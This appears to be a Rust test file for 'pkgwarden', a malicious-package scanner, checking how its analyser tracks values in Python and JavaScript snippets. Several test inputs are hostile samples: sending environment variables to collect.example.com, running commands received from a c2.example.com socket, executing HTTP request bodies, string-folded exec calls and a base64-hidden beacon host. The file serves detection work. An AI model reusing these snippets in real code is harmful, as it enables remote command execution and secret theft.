//! Values followed as the program would run: scopes, working directories, computed
//! members, decoders spelled the old way.

use pkgwarden::archive::limits::Limits;
use pkgwarden::lang::facts::{CallFact, Labels};
use pkgwarden::lang::{analyse, FileFacts, Lang};

fn py(src: &str) -> FileFacts {
    analyse(Lang::Python, src, &Limits::default())
}

fn js(src: &str) -> FileFacts {
    analyse(Lang::JavaScript, src, &Limits::default())
}

fn call<'f>(f: &'f FileFacts, callee: &str) -> &'f CallFact {
    f.calls
        .iter()
        .find(|c| c.callee == callee)
        .unwrap_or_else(|| {
            panic!(
                "no {callee} in {:?}",
                f.calls.iter().map(|c| &c.callee).collect::<Vec<_>>()
            )
        })
}

#[test]
fn an_inner_var_does_not_rebind_the_outer_name() {
    let f = js("function outer() {\n  var c = require('https');\n  function inner(n) { var c = JSON.stringify(n); return c; }\n  c.request({ host: 'x.example.com' });\n}\nouter();\n");
    assert!(f.calls.iter().any(|c| c.callee == "https.request"));
}

#[test]
fn a_local_of_the_same_name_does_not_erase_a_module_constant() {
    let f = py("import urllib.request\nURL = 'http://192.0.2.7/p'\ndef other():\n    URL = compute()\n    return URL\ndef fetch():\n    return urllib.request.urlopen(URL)\nfetch()\n");
    let open = call(&f, "urllib.request.urlopen");
    assert_eq!(open.args[0].text.as_deref(), Some("http://192.0.2.7/p"));
}

#[test]
fn relative_names_resolve_against_the_working_directory() {
    let f = py("import os\nos.chdir(os.path.expanduser('~'))\nopen('.drv', 'wb')\nos.chdir('sub')\nopen('./x', 'w')\nos.system('cd /tmp && ./run > out.txt')\n");
    let targets: Vec<&str> = f.calls.iter().filter_map(|c| c.write_target()).collect();
    assert!(targets.contains(&"~/.drv"), "{targets:?}");
    assert!(targets.contains(&"~/sub/x"), "{targets:?}");
    assert!(targets.contains(&"/tmp/out.txt"), "{targets:?}");
    assert_eq!(call(&f, "sh.run").args[0].text.as_deref(), Some("/tmp/run"));
    let f = js("const fs = require('fs');\nprocess.chdir(require('os').homedir());\nfs.writeFileSync('.agent.js', 'x');\n");
    let targets: Vec<&str> = f.calls.iter().filter_map(|c| c.write_target()).collect();
    assert_eq!(targets, ["~/.agent.js"]);
}

#[test]
fn a_member_named_by_folded_text_is_that_member() {
    let f = js("const https = require('https');\nvar plop = process['en' + 'v'];\nhttps.request({ host: 'x.example.com' }).write(JSON.stringify(plop));\nrequire('child_process')['ex' + 'ec']('id');\n");
    let write = f
        .calls
        .iter()
        .find(|c| c.callee.ends_with(".write"))
        .unwrap();
    assert!(write.arg_labels().has(Labels::ENV), "{write:?}");
    assert!(f.calls.iter().any(|c| c.callee == "child_process.exec"));
}

#[test]
fn the_old_buffer_constructor_decodes() {
    let f = js("const dns = require('dns');\ndns.lookup(new Buffer('YmVhY29uLmV4YW1wbGUuY29t', 'base64').toString(), () => {});\n");
    assert_eq!(
        call(&f, "dns.lookup").args[0].text.as_deref(),
        Some("beacon.example.com")
    );
    // Text put in a buffer and encoded is not decoded code.
    let f =
        js("const b = Buffer.from('Start-Process x', 'utf16le').toString('base64');\neval(b);\n");
    assert!(!call(&f, "eval").arg_labels().has(Labels::DECODED));
}

#[test]
fn server_and_socket_data_reach_their_callbacks_and_the_lists_they_fill() {
    let f = js("const exec = require('child_process').execSync;\nrequire('http').createServer((req, res) => {\n  let body = [];\n  req.on('data', (chunk) => { body.push(chunk); });\n  exec(Buffer.concat(body).toString());\n}).listen(8124);\n");
    assert!(call(&f, "child_process.execSync")
        .arg_labels()
        .has(Labels::DOWNLOADED));
    let f = js("const io = require('socket.io-client');\nconst { exec } = require('child_process');\nconst s = io('http://c2.example.com');\ns.on('exec', (command) => exec(command));\n");
    assert!(call(&f, "child_process.exec")
        .arg_labels()
        .has(Labels::DOWNLOADED));
}

#[test]
fn a_member_store_travels_with_the_object_not_its_other_members() {
    let f = js("const got = require('got');\nconst d = {};\nd.env = process.env;\nd.url = 'https://collect.example.com';\ngot.post(d.url, { body: JSON.stringify(d) });\n");
    let post = call(&f, "got.post");
    assert!(post.arg_labels().has(Labels::ENV), "{post:?}");
    assert!(!post.args[0].labels.has(Labels::ENV), "{post:?}");
}

#[test]
fn timers_run_the_functions_they_are_handed() {
    let f =
        js("function poll() { require('child_process').exec('id'); }\nsetInterval(poll, 1000);\n");
    assert!(call(&f, "child_process.exec").on_load);
}

#[test]
fn a_require_not_bound_to_a_name_is_an_import() {
    let f = js("exports.backdoor = require('./js/backdoor');\n");
    assert!(
        f.imports.iter().any(|(m, _)| m == "./js/backdoor"),
        "{:?}",
        f.imports
    );
}

#[test]
fn dunder_import_of_a_dotted_name_binds_the_top_package() {
    let f = py("req = __import__('urllib.request')\nreq.request.urlopen('http://192.0.2.7/x')\n");
    assert!(f.calls.iter().any(|c| c.callee == "urllib.request.urlopen"));
}
